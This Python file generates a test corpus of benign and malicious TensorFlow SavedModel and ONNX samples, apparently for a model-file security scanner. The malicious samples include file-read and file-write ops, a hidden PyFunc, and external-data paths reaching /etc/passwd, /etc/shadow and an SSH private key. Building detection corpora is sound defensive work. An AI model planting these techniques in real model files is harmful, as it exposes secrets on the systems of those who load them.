"""TensorFlow SavedModel and ONNX samples, benign and malicious.

SavedModels are hand-encoded protobufs (TensorFlow is not installed) shaped like what
``tf.saved_model.save`` writes: a serving signature and traced save/restore functions called
through ``StatefulPartitionedCall``. ONNX models are built with ``onnx.helper`` and serialized
with ``SerializeToString`` (never ``onnx.save``, which would try to write external data).
"""

from __future__ import annotations

from collections.abc import Sequence

from tests.corpus import protobuf_enc as pb
from tests.corpus.sample import CorpusWriter

_SIGNATURE = "__inference_signature_wrapper_1289"
_SAVE = "__inference__traced_save_1361"
_RESTORE = "__inference__traced_restore_1397"


def _saver_functions(extra_save_nodes: Sequence[bytes] = ()) -> list[bytes]:
    float_out = {"dtype": pb.attr_type(pb.DT_FLOAT)}
    signature = pb.function(
        _SIGNATURE,
        [
            pb.node("MatMul/ReadVariableOp", "ReadVariableOp", ["dense_kernel"], float_out),
            pb.node(
                "MatMul",
                "MatMul",
                ["x", "MatMul/ReadVariableOp:value:0"],
                {"T": pb.attr_type(pb.DT_FLOAT)},
            ),
            pb.node("Identity", "Identity", ["MatMul:product:0"], {"T": pb.attr_type(pb.DT_FLOAT)}),
        ],
        ret={"output_0": "Identity:output:0"},
    )
    save = pb.function(
        _SAVE,
        [
            pb.node(
                "StaticRegexFullMatch",
                "StaticRegexFullMatch",
                ["file_prefix"],
                {"pattern": pb.attr_s("^s3://.*")},
            ),
            pb.node(
                "Const",
                "Const",
                [],
                {"dtype": pb.attr_type(pb.DT_STRING), "value": pb.attr_string_tensor(b".part")},
            ),
            pb.node(
                "StringJoin",
                "StringJoin",
                ["file_prefix", "Const:output:0"],
                {"separator": pb.attr_s("")},
            ),
            pb.node(
                "ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "num_shards", "shard"]
            ),
            pb.node(
                "SaveV2",
                "SaveV2",
                ["ShardedFilename:filename:0", "tensor_names", "shape_and_slices", "dense_kernel"],
                {"dtypes": pb.attr_types([pb.DT_FLOAT])},
            ),
            pb.node(
                "MergeV2Checkpoints",
                "MergeV2Checkpoints",
                ["checkpoint_files", "file_prefix"],
                {"delete_old_dirs": pb.attr_b(True)},
            ),
            *extra_save_nodes,
            pb.node("Identity", "Identity", ["file_prefix"], {"T": pb.attr_type(pb.DT_STRING)}),
        ],
        ret={"identity": "Identity:output:0"},
    )
    restore = pb.function(
        _RESTORE,
        [
            pb.node(
                "RestoreV2",
                "RestoreV2",
                ["file_prefix", "tensor_names", "shape_and_slices"],
                {"dtypes": pb.attr_types([pb.DT_FLOAT])},
            ),
            pb.node(
                "AssignVariableOp",
                "AssignVariableOp",
                ["dense_kernel", "RestoreV2:tensors:0"],
                {"dtype": pb.attr_type(pb.DT_FLOAT)},
            ),
            pb.node("NoOp", "NoOp"),
            pb.node("Identity", "Identity", ["file_prefix"], {"T": pb.attr_type(pb.DT_STRING)}),
        ],
        ret={"identity": "Identity:output:0"},
    )
    return [signature, save, restore]


def _main_nodes() -> list[bytes]:
    def call(name: str, fn: str, inputs: Sequence[str]) -> bytes:
        return pb.node(
            name,
            "StatefulPartitionedCall",
            inputs,
            {
                "f": pb.attr_func(fn),
                "Tin": pb.attr_types([pb.DT_FLOAT, pb.DT_RESOURCE]),
                "Tout": pb.attr_types([pb.DT_FLOAT]),
            },
        )

    return [
        pb.node("saver_filename", "Placeholder", [], {"dtype": pb.attr_type(pb.DT_STRING)}),
        pb.node(
            "dense_kernel",
            "VarHandleOp",
            [],
            {"dtype": pb.attr_type(pb.DT_FLOAT), "shared_name": pb.attr_s("dense/kernel")},
        ),
        pb.node("serving_default_x", "Placeholder", [], {"dtype": pb.attr_type(pb.DT_FLOAT)}),
        call("StatefulPartitionedCall", _SIGNATURE, ["serving_default_x", "dense_kernel"]),
        call("StatefulPartitionedCall_1", _SAVE, ["saver_filename", "dense_kernel"]),
        call("StatefulPartitionedCall_2", _RESTORE, ["saver_filename", "dense_kernel"]),
    ]


def _const_string(name: str, value: str) -> bytes:
    return pb.node(
        name,
        "Const",
        [],
        {"dtype": pb.attr_type(pb.DT_STRING), "value": pb.attr_string_tensor(value.encode())},
    )


def _tensorflow(w: CorpusWriter) -> None:
    def add(name: str, graph_def: bytes, label: str, technique: str) -> None:
        w.add(
            name, pb.saved_model(graph_def), label=label, family="tensorflow", technique=technique
        )  # type: ignore[arg-type]

    add(
        "tensorflow/dense_model/saved_model.pb",
        pb.graph(_main_nodes(), _saver_functions()),
        "benign",
        "SavedModel with serving signature and saver",
    )

    read = [
        _const_string("secret_path", "/etc/passwd"),
        pb.node("ReadFile", "ReadFile", ["secret_path"]),
        pb.node("leak", "Identity", ["ReadFile"], {"T": pb.attr_type(pb.DT_STRING)}),
    ]
    add(
        "tensorflow/read_file/saved_model.pb",
        pb.graph(_main_nodes() + read, _saver_functions()),
        "malicious",
        "ReadFile op in the main graph",
    )

    name = "tensorflow/write_file/saved_model.pb"
    write = [
        _const_string("target", str(w.marker(name))),
        _const_string("contents", "pwned"),
        pb.node("WriteFile", "WriteFile", ["target", "contents"]),
    ]
    add(
        name,
        pb.graph(_main_nodes() + write, _saver_functions()),
        "malicious",
        "WriteFile op in the main graph",
    )

    helper = pb.function(
        "__inference_helper_77",
        [
            pb.node(
                "PyFunc",
                "PyFunc",
                ["x"],
                {
                    "token": pb.attr_s("pyfunc_0"),
                    "Tin": pb.attr_types([pb.DT_FLOAT]),
                    "Tout": pb.attr_types([pb.DT_FLOAT]),
                },
            )
        ],
    )
    caller = pb.function(
        "__inference_call_55",
        [
            pb.node(
                "PartitionedCall",
                "PartitionedCall",
                ["x"],
                {"f": pb.attr_func("__inference_helper_77")},
            )
        ],
    )
    nodes = [
        *_main_nodes(),
        pb.node(
            "call",
            "StatefulPartitionedCall",
            ["serving_default_x"],
            {"f": pb.attr_func("__inference_call_55")},
        ),
    ]
    add(
        "tensorflow/nested_pyfunc/saved_model.pb",
        pb.graph(nodes, [*_saver_functions(), caller, helper]),
        "malicious",
        "PyFunc in a library function reached through nested func attrs",
    )

    name = "tensorflow/write_in_save_fn/saved_model.pb"
    hidden = [
        _const_string("drop_path", str(w.marker(name))),
        pb.node("drop", "WriteFile", ["drop_path", "file_prefix"]),
    ]
    add(
        name,
        pb.graph(_main_nodes(), _saver_functions(hidden)),
        "malicious",
        "WriteFile hidden in the traced save function",
    )


def _onnx_mlp(initializer_override: object | None = None) -> object:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(0)
    w1 = numpy_helper.from_array(rng.standard_normal((4, 8)).astype(np.float32), "w1")
    b1 = numpy_helper.from_array(np.zeros(8, np.float32), "b1")
    w2 = initializer_override or numpy_helper.from_array(
        rng.standard_normal((8, 3)).astype(np.float32), "w2"
    )
    nodes = [
        helper.make_node("Gemm", ["x", "w1", "b1"], ["h"]),
        helper.make_node("Relu", ["h"], ["a"]),
        helper.make_node("MatMul", ["a", "w2"], ["logits"]),
        helper.make_node("Softmax", ["logits"], ["y"], axis=1),
    ]
    graph = helper.make_graph(
        nodes,
        "mlp",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [w1, b1, w2],
    )
    return helper.make_model(
        graph, producer_name="pytorch", opset_imports=[onnx.helper.make_opsetid("", 17)]
    )


def _external(name: str, location: str) -> object:
    from onnx import TensorProto

    tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[8, 3])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "96")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def _onnx(w: CorpusWriter) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper

    def add(name: str, model: object, label: str, technique: str) -> None:
        w.add(name, model.SerializeToString(), label=label, family="onnx", technique=technique)  # type: ignore[attr-defined,arg-type]

    add("onnx/mlp.onnx", _onnx_mlp(), "benign", "MLP built with onnx.helper")
    conv = helper.make_graph(
        [
            helper.make_node("Conv", ["x", "k"], ["c"], kernel_shape=[3, 3], pads=[1, 1, 1, 1]),
            helper.make_node("Relu", ["c"], ["r"]),
            helper.make_node("MaxPool", ["r"], ["p"], kernel_shape=[2, 2], strides=[2, 2]),
            helper.make_node("Flatten", ["p"], ["y"]),
        ],
        "cnn",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 1, 8, 8])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 64])],
        [onnx.numpy_helper.from_array(np.ones((4, 1, 3, 3), np.float32), "k")],
    )
    add(
        "onnx/cnn.onnx",
        helper.make_model(conv, opset_imports=[helper.make_opsetid("", 13)]),
        "benign",
        "CNN built with onnx.helper",
    )
    ml = helper.make_graph(
        [helper.make_node("Normalizer", ["x"], ["y"], domain="ai.onnx.ml", norm="L2")],
        "normalizer",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
    )
    add(
        "onnx/ml_normalizer.onnx",
        helper.make_model(
            ml, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)]
        ),
        "benign",
        "ai.onnx.ml operator",
    )

    weights = np.random.default_rng(1).standard_normal((8, 3)).astype(np.float32)
    w.add(
        "onnx/external/mlp.weights",
        weights.tobytes(),
        label="benign",
        family="onnx",
        technique="external tensor data file",
    )
    add(
        "onnx/external/mlp.onnx",
        _onnx_mlp(_external("w2", "mlp.weights")),
        "benign",
        "external data inside the model directory",
    )

    add(
        "onnx/external_traversal.onnx",
        _onnx_mlp(_external("w2", "../../etc/passwd")),
        "malicious",
        "external data location ../../etc/passwd",
    )
    add(
        "onnx/external_absolute.onnx",
        _onnx_mlp(_external("w2", "/etc/shadow")),
        "malicious",
        "external data at an absolute path",
    )

    custom = helper.make_graph(
        [
            helper.make_node("Relu", ["x"], ["h"]),
            helper.make_node("RunCommand", ["h"], ["y"], domain="com.attacker.ops"),
        ],
        "custom",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
    )
    add(
        "onnx/custom_domain_op.onnx",
        helper.make_model(
            custom,
            opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker.ops", 1)],
        ),
        "malicious",
        "operator from a custom domain (native library)",
    )

    branch = helper.make_graph(
        [helper.make_node("Identity", ["leak"], ["out"])],
        "then_branch",
        [],
        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [8, 3])],
        [_external("leak", "../../../root/.ssh/id_rsa")],
    )
    other = helper.make_graph(
        [
            helper.make_node(
                "Constant",
                [],
                ["out"],
                value=helper.make_tensor("zero", TensorProto.FLOAT, [8, 3], [0.0] * 24),
            )
        ],
        "else_branch",
        [],
        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [8, 3])],
    )
    main = helper.make_graph(
        [helper.make_node("If", ["cond"], ["y"], then_branch=branch, else_branch=other)],
        "conditional",
        [helper.make_tensor_value_info("cond", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [8, 3])],
    )
    add(
        "onnx/if_subgraph_external.onnx",
        helper.make_model(main, opset_imports=[helper.make_opsetid("", 17)]),
        "malicious",
        "If subgraph initializer with traversing external data",
    )


def generate(w: CorpusWriter) -> None:
    """Write the TensorFlow and ONNX samples."""
    if w.wants("tensorflow"):
        _tensorflow(w)
    if w.wants("onnx"):
        _onnx(w)
